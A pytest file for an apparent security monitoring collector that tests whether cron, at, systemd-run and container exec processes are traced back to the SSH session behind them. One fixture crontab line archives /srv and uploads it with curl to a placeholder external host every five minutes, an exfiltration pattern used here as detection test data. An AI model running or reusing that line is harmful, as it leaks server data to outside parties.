"""What cron, at, systemd-run and container runtimes start is linked to the session that caused it."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from collector.alerts.raising import to_alert
from collector.analysis import Analysis
from collector.attribution import jobs, launches, schedules
from collector.attribution.attribution import Attribution, State
from collector.attribution.job_commands import at_due, cron_line, is_same_command, started
from collector.record import Origin, Person
from collector.rule import Detection, Finding
from collector.settings import Detection as Settings
from evidence.event import stamp
from evidence.kind import Actor, Body, Endpoint
from evidence.kinds.connection import Close
from evidence.kinds.file import Change, Create, Explanation, FileState
from evidence.kinds.login import Accepted, SessionOpen
from evidence.kinds.process import Ancestor, Exec, Exit
from evidence.kinds.state import Changed
from tests.property.bodies import bodies

SECOND = 1_000_000_000
NOON = 29_833_200 * 60 * SECOND
CONTAINER = "0123456789abcdef" * 4
HOME = Endpoint(ip="198.51.100.7", port=50_000)
TABLE = "/var/spool/cron/crontabs/alice"


class Fleet:
    """One host's events, in order, with their attribution."""

    def __init__(self) -> None:
        self.engine = Attribution()
        self.seq = 0
        for session, user in ((7, "alice"), (8, "bob")):
            login = Accepted(
                program="sshd", user=user, pid=60 + session, fingerprint=f"SHA256:{user}", source=HOME
            )
            self.see(login)
            auid = 993 + session
            self.see(SessionOpen(program="sshd", user=user, pid=60 + session, auid=auid, session=session))

    def see(self, body: Body, at: float = 0, *, boot: str = "b1", agent: str = "a1") -> Person | None:
        self.seq += 1
        origin = Origin(agent, 1, boot, "web1", self.seq, 10)
        event = stamp(body, seq=self.seq, time=NOON + int(at * SECOND), mono=self.seq)
        return self.engine.attribute(origin, event)

    def acted(self, *argv: str, session: int = 7, at: float = 0) -> None:
        """Let a session execute a program of /usr/bin."""
        exe = f"/usr/bin/{argv[0]}"
        self.see(Exec(pid=100, start=SECOND, exe=exe, argv=argv, auid=993 + session, session=session), at)


def actor(session: int = 7) -> Actor:
    return Actor(pid=90, start=SECOND, exe="/usr/bin/crontab", auid=993 + session, session=session)


def cron_exec(command: str, *, pid: int = 200, session: int | None = 40, user: str = "alice") -> Exec:
    line = (Ancestor(pid=51, start=SECOND), Ancestor(pid=50, start=SECOND, exe="/usr/sbin/cron"))
    auid = 1000 if session is not None else None
    return Exec(
        pid=pid, start=2 * SECOND, ppid=51, exe="/usr/bin/dash", argv=("/bin/sh", "-c", command),
        uid=1000, auid=auid, session=session, user=user, ancestry=line,
    )  # fmt: skip


def in_container(*argv: str, pid: int = 300) -> Exec:
    return Exec(pid=pid, start=2 * SECOND, ppid=299, exe="/bin/x", argv=argv, uid=0, container=CONTAINER)


def name(person: Person | None) -> tuple[str, str] | None:
    return None if person is None else (person.name, person.how)


def test_a_cron_job_is_whose_line_it_is_with_login_and_evidence() -> None:
    fleet = Fleet()
    line = "*/5 * * * * tar cz /srv | curl -T - https://x.example"
    fleet.see(
        Changed(source="cron", subject=TABLE, change="changed", path=TABLE, added=(line,), actor=actor())
    )
    wrote = fleet.seq
    found = fleet.see(cron_exec("tar cz /srv |  curl -T - https://x.example"), 60)
    assert found == Person("alice", "job", 40, "198.51.100.7", "SHA256:alice", (f"a1:1:{wrote}",))
    child = Exec(pid=201, start=3 * SECOND, ppid=200, parent_start=2 * SECOND, exe="/usr/bin/curl", auid=1000)
    assert name(fleet.see(msgspec.structs.replace(child, session=40))) == ("alice", "job")
    sent = Close(
        flow=1, protocol="tcp", direction="out", local=HOME, remote=HOME, bytes_out=5,
        actor=Actor(pid=201, start=3 * SECOND, auid=1000, session=40),
    )  # fmt: skip
    assert fleet.see(sent) == found


def test_a_diff_of_the_file_tells_the_same_as_one_of_the_state() -> None:
    fleet = Fleet()
    fleet.see(Change(path=TABLE, added=("@daily /bin/backup",), actor=actor()))
    assert name(fleet.see(cron_exec("/bin/backup", session=None))) == ("alice", "job")


def test_a_file_event_names_the_writer_whose_lines_the_state_tells() -> None:
    fleet = Fleet()
    fleet.see(Create(path=TABLE, actor=actor()))
    fleet.see(Changed(source="cron", subject=TABLE, change="appeared", path=TABLE, added=("@daily x",)), 2)
    assert name(fleet.see(cron_exec("x"), 60)) == ("alice", "job")


def test_without_the_line_the_tables_writer_is_only_inferred() -> None:
    fleet = Fleet()
    fleet.see(Create(path=TABLE, actor=actor()))
    assert name(fleet.see(cron_exec("/bin/backup"), 60)) == ("alice", "inferred")


@pytest.mark.parametrize(("session", "expected"), [(40, ("alice", "kernel")), (None, None)])
def test_a_line_that_nobody_was_seen_to_write_stays_as_unknown_as_it_was(
    session: int | None, expected: tuple[str, str] | None
) -> None:
    fleet = Fleet()
    fleet.see(Changed(source="cron", subject="x", change="changed", path="/etc/crontab",
                      added=("@daily bob /bin/other",), actor=actor(8)))  # fmt: skip
    job = msgspec.structs.replace(cron_exec("/bin/backup", session=session), user="alice", uid=33)
    assert name(fleet.see(msgspec.structs.replace(job, login="alice"))) == expected


def test_a_line_is_forgotten_when_it_is_removed_or_rewritten_by_nobody() -> None:
    fleet = Fleet()
    line = ("1 2 * * * root /bin/job",)
    for change in (
        Change(path="/etc/cron.d/x", removed=line, actor=actor()),
        Change(path="/etc/cron.d/x", added=line),
        Change(
            path="/etc/cron.d/x",
            added=line,
            actor=actor(),
            explained_by=Explanation(package="x", transaction=True),
        ),
    ):
        fleet.see(Change(path="/etc/cron.d/x", added=line, actor=actor()))
        assert name(fleet.see(cron_exec("/bin/job", session=None, user="root", pid=200))) == ("alice", "job")
        fleet.see(change)
        again = fleet.see(cron_exec("/bin/job", session=None, user="root", pid=400))
        assert name(again) == ("root", "uid")
        fleet.see(Exit(pid=200, start=2 * SECOND))


def test_a_script_of_run_parts_is_its_writers_and_the_next_one_is_not() -> None:
    fleet = Fleet()
    fleet.see(Create(path="/etc/cron.hourly/grab", actor=actor()))
    above = (
        Ancestor(pid=54, start=SECOND, exe="/usr/bin/run-parts"),
        Ancestor(pid=53, start=SECOND, exe="/usr/bin/dash"),
        Ancestor(pid=52, start=SECOND),
        Ancestor(pid=50, start=SECOND, exe="/usr/sbin/cron"),
    )
    script = Exec(
        pid=210, start=2 * SECOND, ppid=54, exe="/usr/bin/dash", argv=("/bin/sh", "/etc/cron.hourly/grab"),
        uid=0, auid=0, session=41, ancestry=above,
    )  # fmt: skip
    assert name(fleet.see(script)) == ("alice", "job")
    other = msgspec.structs.replace(script, pid=211, argv=("/bin/sh", "/etc/cron.hourly/man-db"))
    assert name(fleet.see(other)) == ("uid 0", "kernel")


def at_file(job: int, minutes: int) -> str:
    return f"/var/spool/cron/atjobs/a{job:05x}{29_833_200 + minutes:08x}"


def at_exec(session: int | None = 42, uid: int = 1000) -> Exec:
    line = (Ancestor(pid=51, start=SECOND), Ancestor(pid=50, start=SECOND, exe="/usr/sbin/atd"))
    return Exec(
        pid=220, start=2 * SECOND, ppid=51, exe="/usr/bin/dash", argv=("sh",), uid=uid, auid=uid,
        session=session, ancestry=line,
    )  # fmt: skip


def test_an_at_job_is_whose_file_was_due() -> None:
    fleet = Fleet()
    fleet.see(Create(path=at_file(1, 0), after=FileState(uid=1000), actor=actor(7)), -600)
    fleet.see(Create(path=at_file(2, 90), after=FileState(uid=1000), actor=actor(8)), -600)
    assert name(fleet.see(at_exec(), 1)) == ("alice", "job")
    assert name(fleet.see(at_exec(session=43), 90 * 60 + 2)) == ("bob", "job")


def test_two_persons_at_jobs_of_one_minute_and_account_are_nobodys() -> None:
    fleet = Fleet()
    fleet.see(Create(path=at_file(1, 0), after=FileState(uid=0), actor=actor(7)), -600)
    fleet.see(Create(path=at_file(2, 0), after=FileState(uid=0), actor=actor(8)), -600)
    assert name(fleet.see(at_exec(uid=0), 1)) == ("uid 0", "kernel")
    fleet.see(Create(path=at_file(3, 1), after=FileState(uid=1000), actor=actor(8)), -600)
    assert name(fleet.see(at_exec(session=44, uid=1000), 61)) == ("bob", "job")


def test_the_state_of_an_at_job_tells_whose_account_it_runs_as() -> None:
    fleet = Fleet()
    lines = ("due 2026-11-22T10:00:00Z", "uid 1000", "run: id")
    path = at_file(1, 0)
    said = Changed(source="at", subject=path, change="appeared", path=path, added=lines, actor=actor())
    fleet.see(said, -60)
    assert name(fleet.see(at_exec(uid=33), 1)) == ("uid 33", "kernel")
    assert name(fleet.see(at_exec(), 1)) == ("alice", "job")


def test_an_at_job_whose_file_was_not_told_yet_is_inferred_from_who_asked() -> None:
    fleet = Fleet()
    asked = Exec(pid=100, start=SECOND, exe="/usr/bin/at", argv=("at", "now"), uid=1000, auid=1000, session=7)
    fleet.see(asked)
    assert name(fleet.see(at_exec(uid=33), 1)) == ("uid 33", "kernel"), "of another account"
    assert name(fleet.see(at_exec(session=43), 1)) == ("alice", "inferred")
    assert name(fleet.see(at_exec(session=44), 60)) == ("alice", "kernel"), "too late"


def test_a_docker_exec_is_inferred_once_and_with_what_it_starts() -> None:
    fleet = Fleet()
    fleet.acted("docker", "exec", "-it", "web", "sh", "-c", "id")
    asked = fleet.seq
    assert fleet.see(in_container("sleep", "1"), 1) is None
    found = fleet.see(in_container("sh", "-c", "id"), 1)
    assert found == Person("alice", "inferred", 7, "198.51.100.7", "SHA256:alice", (f"a1:1:{asked}",))
    child = msgspec.structs.replace(
        in_container("id", pid=301), ppid=300, parent_start=2 * SECOND, start=3 * SECOND
    )
    assert name(fleet.see(child, 2)) == ("alice", "inferred")
    assert name(fleet.see(Exit(pid=301, start=3 * SECOND))) == ("alice", "inferred")
    assert fleet.see(Exit(pid=301, start=3 * SECOND)) is None
    assert fleet.see(in_container("sh", "-c", "id", pid=310), 3) is None, "one request starts one process"


@pytest.mark.parametrize(
    ("argv", "at", "why"),
    [
        (("docker", "exec", "ffff00001111", "sh"), 1, "another container's id"),
        (("docker", "exec", "web", "bash"), 1, "another command"),
        (("docker", "exec", "web", "sh"), 11, "too long before"),
        (("docker", "run", "web", "sh"), 1, "a new container, whose id nobody told"),
    ],
)
def test_what_does_not_fit_is_nobodys(argv: tuple[str, ...], at: float, why: str) -> None:
    fleet = Fleet()
    fleet.acted(*argv)
    assert fleet.see(in_container("sh"), at) is None, why


def test_two_persons_who_ask_for_the_same_are_nobody() -> None:
    fleet = Fleet()
    fleet.acted("docker", "exec", "web", "sh", session=7)
    fleet.acted("docker", "exec", CONTAINER[:12], "sh", session=8)
    assert fleet.see(in_container("sh"), 1) is None


def test_a_process_with_a_login_identity_of_its_own_keeps_it() -> None:
    fleet = Fleet()
    fleet.acted("podman", "exec", "web", "sh")
    own = msgspec.structs.replace(in_container("sh"), auid=1001, session=8)
    assert name(fleet.see(own, 1)) == ("bob", "kernel"), "as after nsenter, which keeps the audit session"


def test_a_login_below_a_linked_process_is_its_own_person() -> None:
    fleet = Fleet()
    fleet.acted("docker", "exec", "web", "sshd", "-D")
    assert name(fleet.see(in_container("sshd", "-D"), 1)) == ("alice", "inferred")
    shell = Exec(pid=400, start=9 * SECOND, ppid=300, parent_start=2 * SECOND, auid=1001, session=8)
    assert name(fleet.see(shell, 5)) == ("bob", "kernel")


def test_a_reused_pid_and_another_boot_are_not_linked() -> None:
    fleet = Fleet()
    fleet.acted("docker", "exec", "web", "sh")
    fleet.see(in_container("sh"), 1)
    assert fleet.see(Exit(pid=300, start=50 * SECOND)) is None
    fleet.acted("docker", "exec", "web", "sh")
    fleet.see(in_container("sh"), 1)
    child = msgspec.structs.replace(in_container("id", pid=301), ppid=300, parent_start=2 * SECOND)
    assert fleet.see(child, 2, boot="b2") is None
    assert fleet.see(child, 2, agent="a2") is None


def unit_exec(unit: str, *argv: str) -> Exec:
    return Exec(pid=500, start=2 * SECOND, ppid=1, exe=argv[0], argv=argv, uid=0, unit=unit)


@pytest.mark.parametrize(
    ("asked", "process", "expected"),
    [
        (("--unit=grab", "curl", "x"), unit_exec("grab.service", "/usr/bin/curl", "x"), ("alice", "job")),
        (("-u", "grab.service", "curl"), unit_exec("grab.service", "/bin/other"), ("alice", "job")),
        (("curl", "x"), unit_exec("run-u12.service", "/usr/bin/curl", "x"), ("alice", "inferred")),
        (("curl", "x"), unit_exec("run-u12.service", "/usr/bin/curl", "y"), None),
        (("curl", "x"), unit_exec("nginx.service", "/usr/bin/curl", "x"), None),
        (("--scope", "curl", "x"), unit_exec("run-u12.scope", "/usr/bin/curl", "x"), None),
    ],
)
def test_systemd_run_is_linked_by_the_units_name_or_inferred(
    asked: tuple[str, ...], process: Exec, expected: tuple[str, str] | None
) -> None:
    fleet = Fleet()
    fleet.acted("systemd-run", *asked)
    assert name(fleet.see(process, 2)) == expected


def test_what_is_inferred_causes_nothing_surer() -> None:
    fleet = Fleet()
    fleet.acted("docker", "exec", "web", "sh")
    fleet.see(in_container("sh"), 1)
    writer = Actor(pid=300, start=2 * SECOND, uid=0)
    fleet.see(Change(path="/etc/cron.d/x", added=("@daily root /bin/y",), actor=writer))
    job = fleet.see(cron_exec("/bin/y", session=None, user="root"))
    assert name(job) == ("alice", "inferred")
    assert job is not None
    assert len(job.because) == 2


def test_an_alert_of_an_inferred_person_is_medium_and_shows_why() -> None:
    rule = Detection(
        id="x", version=1, title="x", severity="critical", attack=(), kinds=(Exec,),
        find=lambda _record, _site: None, hits=(), misses=(),
    )  # fmt: skip
    person = Person("alice", "inferred", because=("a1:1:5",))
    finding = Finding("e", "s", 1, "a1", "web1", ("a1:1:9",), person)
    alert = to_alert(rule, finding, 2)
    assert (alert.severity, alert.evidence) == ("medium", ("a1:1:5", "a1:1:9"))


def test_links_survive_a_stored_state() -> None:
    fleet = Fleet()
    fleet.see(Change(path=TABLE, added=("@daily /bin/backup",), actor=actor()))
    fleet.acted("docker", "exec", "web", "sh")
    kept = msgspec.msgpack.encode(fleet.engine.state)
    fleet.engine = Attribution()
    fleet.engine.load(msgspec.msgpack.decode(kept, type=State))
    assert name(fleet.see(in_container("sh"), 1)) == ("alice", "inferred")
    assert name(fleet.see(cron_exec("/bin/backup"))) == ("alice", "job")


@given(st.lists(bodies(), max_size=30))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_events_give_the_same_twice(seen: list[Body]) -> None:
    def play() -> tuple[list[Person | None], bytes]:
        engine = Analysis(Settings())
        events = [stamp(body, seq=at, time=at, mono=at) for at, body in enumerate(seen, 1)]
        found = engine.step(Origin("a1", 1, "b", "web1", 1, 10), events, 10)[0]
        return found, engine.dump()

    assert play() == play()


def test_what_is_remembered_of_a_host_is_bounded() -> None:
    host = jobs.Host("b1")
    cause = jobs.Cause(Person("alice", "kernel"), "a1:1:1", NOON)
    for number in range(3000):
        lines = [f"@daily root /bin/{number}-{line}" for line in range(3)]
        schedules.written(host, f"/etc/cron.d/{number}", jobs.Mark(number, 1, cause), lines, ())
        launches.launched(host, Exec(pid=1, argv=("docker", "exec", "c", str(number))), cause)
        jobs.link(host, Exec(pid=number, start=1), jobs.Caused(cause.person, "job", None))
    assert len(host.written) <= 128
    assert len(host.lines) <= 1024
    assert len(host.launches) <= 32
    assert len(host.processes) <= 512


@pytest.mark.parametrize(
    ("argv", "container", "command"),
    [
        (("docker", "exec", "web", "ls", "-l"), "web", ("ls", "-l")),
        (("docker", "-H", "unix:///x", "exec", "-u", "0", "-e", "A=b", "web", "ls"), "web", ("ls",)),
        (("docker", "container", "exec", "--user=0", "-it", "web", "ls"), "web", ("ls",)),
        (("docker", "compose", "-f", "c.yml", "exec", "-T", "web", "ls"), "web", ("ls",)),
        (("/usr/bin/podman", "exec", "-w", "/", "--", "web", "ls"), "web", ("ls",)),
        (("crictl", "-r", "unix:///x", "exec", "-i", "0123456789ab", "ls"), "0123456789ab", ("ls",)),
        (("ctr", "-n", "k8s.io", "tasks", "exec", "--exec-id", "e", "web", "ls"), "web", ("ls",)),
    ],
)
def test_what_runtimes_are_asked_for(argv: tuple[str, ...], container: str, command: tuple[str, ...]) -> None:
    what = started(argv)
    assert what is not None
    assert (what.container, what.command, what.unit) == (container, command, None)


@pytest.mark.parametrize(
    "argv",
    [
        (),
        ("docker",),
        ("docker", "ps"),
        ("docker", "exec"),
        ("docker", "exec", "web"),
        ("docker", "-H"),
        ("ls",),
        ("at", "-l"),
    ],
)
def test_other_commands_start_nothing(argv: tuple[str, ...]) -> None:
    assert started(argv) is None


@given(st.lists(st.sampled_from(["docker", "exec", "-e", "--", "-", "", "systemd-run", "--unit", "a=b"])))
def test_any_arguments_are_read(argv: list[str]) -> None:
    what = started(argv)
    assert what is None or len(what.command) <= 64


@pytest.mark.parametrize(
    ("path", "line", "expected"),
    [
        (TABLE, "*/5  * * * 1-5  /bin/x   -a", ("alice", "/bin/x -a")),
        (TABLE, "@reboot /bin/x", ("alice", "/bin/x")),
        ("/var/spool/cron/root", "0 0 * * * date +\\%s%input", ("root", "date +%s")),
        ("/etc/crontab", "17 * * * * www-data cd / && run", ("www-data", "cd / && run")),
        ("/etc/cron.d/x", "@daily root /bin/x", ("root", "/bin/x")),
        (TABLE, "# 1 2 3 4 5 x", None),
        (TABLE, "SHELL=/bin/bash", None),
        (TABLE, "", None),
        (TABLE, "1 2 3", None),
        ("/etc/crontab", "1 2 3 4 5 root", None),
        (TABLE, "x" * 5000, None),
    ],
)
def test_lines_of_crontabs(path: str, line: str, expected: tuple[str, str] | None) -> None:
    assert cron_line(path, line) == expected


@given(st.text(), st.text())
def test_any_line_is_read(path: str, line: str) -> None:
    cron_line(path, line)
    at_due(path)


@pytest.mark.parametrize(
    ("argv", "command", "same"),
    [
        (("/usr/bin/id", "-u"), ("id", "-u"), True),
        (("/bin/sh", "/opt/run.sh", "x"), ("./run.sh", "x"), True),
        (("id",), ("id", "-u"), False),
        (("id", "-u"), (), False),
        (("sh", "-c", "id -u"), ("id", "-u"), False),
    ],
)
def test_commands_that_are_the_same(argv: tuple[str, ...], command: tuple[str, ...], *, same: bool) -> None:
    assert is_same_command(argv, command) is same
